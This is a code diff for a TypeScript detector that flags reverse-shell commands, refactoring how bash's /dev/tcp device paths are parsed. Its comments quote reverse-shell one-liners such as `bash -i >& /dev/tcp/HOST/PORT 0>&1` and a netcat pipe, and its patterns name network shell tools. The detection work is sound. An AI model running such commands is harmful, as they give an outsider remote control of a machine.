@@ -1,18 +1,18 @@
 import { classifyHost } from '../classify-host.js';
 import type { Reading } from '../reading.js';
 import type { Value } from '../value.js';
+import { hostOfDevice, keepOpen, openedDevice } from './network-device.js';
 import type { Command, Pipeline, Word } from './syntax.js';
 
 const SHELL_NAME = /(?:^|\/)(?:ba|z|da|k|a|tc|c|fi)?sh$|(?:^|\/)(?:python[\d.]*|cmd|powershell|pwsh)(?:\.exe)?$/u;
 const PEER_NAME = /(?:^|\/)(?:nc|ncat|netcat|nc\.traditional|telnet|socat|openssl)$/u;
-const DEVICE = /^\/dev\/(?:tcp|udp)\/([^/\s]{1,200})\/[^/\s]{1,20}$/u;
 
 /** A shell with its input or output on bash's network device: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/…; sh <&5 >&5`. */
 export function noteShellOnDevice(command: Command, reading: Reading, expand: (word: Word) => Value): void {
   const name = plainText(command.words[0]);
-  const device = command.redirects.map(({ target }) => DEVICE.exec(deviceText(target, expand))).find((match) => match !== null);
-  if (device && (name === 'exec' || name === '')) reading.files.set('*device*', { origins: [], text: device[0] });
-  const opened = reading.files.get('*device*')?.text;
+  const device = command.redirects.map(({ target }) => deviceText(target, expand)).find((path) => hostOfDevice(path) !== undefined);
+  if (device !== undefined && (name === 'exec' || name === '')) keepOpen(reading, device);
+  const opened = openedDevice(reading);
   const duplicates = command.redirects.some(
     (redirect) => /^[<>]&$/u.test(redirect.operator) && /^[3-9]$|^\d{2,3}$/u.test(plainText(redirect.target)),
   );
@@ -26,13 +26,13 @@ export function noteShellOnDevice(command: Command, reading: Reading, expand: (w
     name === 'eval' ||
     command.words[0]?.parts[0]?.kind === 'variable';
   const target =
-    device && SHELL_NAME.test(name)
-      ? device[0]
+    device !== undefined && SHELL_NAME.test(name)
+      ? device
       : opened !== undefined && duplicates && runsLines && command.words.length > 0
         ? opened
         : undefined;
   if (target === undefined) return;
-  const host = DEVICE.exec(target)?.[1] ?? '';
+  const host = hostOfDevice(target) ?? '';
   reading.note({
     kind: 'connect-shell',
     start: command.start,
@@ -49,7 +49,7 @@ function deviceText(target: Word, expand: (word: Word) => Value): string {
   const written = first?.kind === 'text' ? first.text : '';
   if (!written.startsWith('/dev/')) return plainText(target);
   const text = target.parts.length === 1 ? written : expand(target).text;
-  return classifyHost(DEVICE.exec(text)?.[1] ?? '').class === 'variable' ? '' : text;
+  return classifyHost(hostOfDevice(text) ?? '').class === 'variable' ? '' : text;
 }
 
 /** A shell in a pipe to a connection: `cat fifo | sh -i | nc HOST PORT > fifo`, `telnet HOST 1 | sh | telnet HOST 2`. */
